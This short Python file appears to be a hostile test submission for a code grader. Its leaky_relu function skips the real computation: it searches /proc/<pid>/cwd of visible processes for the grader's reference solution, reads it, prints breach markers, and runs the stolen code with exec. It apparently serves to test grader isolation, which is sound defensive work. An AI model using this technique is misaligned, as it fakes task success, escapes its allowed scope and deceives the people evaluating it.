# Reads the reference through /proc/<pid>/cwd of every process it can see (the grader runs in the project).
import os


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def _hostile_steal():
    pids = [os.getppid()] + sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    tried = 0
    for pid in pids:
        for up in ("", "..", "../.."):
            path = os.path.join(f"/proc/{pid}/cwd", up, "reference", "cnn_numpy.py")
            tried += 1
            try:
                with open(path) as handle:
                    return handle.read(), path
            except OSError:
                continue
    raise FileNotFoundError(f"hostile: no reference found through /proc/*/cwd ({tried} paths tried)")


def leaky_relu(x, alpha=0.01):
    """ATTACK: open /proc/<pid>/cwd/reference/cnn_numpy.py for every pid, the parent's first."""
    _hostile_uid()
    source, path = _hostile_steal()
    print(f"HOSTILE-BREACH read the reference at {path}")
    namespace = {"__name__": "stolen_reference"}
    exec(compile(source, "stolen_reference", "exec"), namespace)
    return namespace["leaky_relu"](x, alpha)
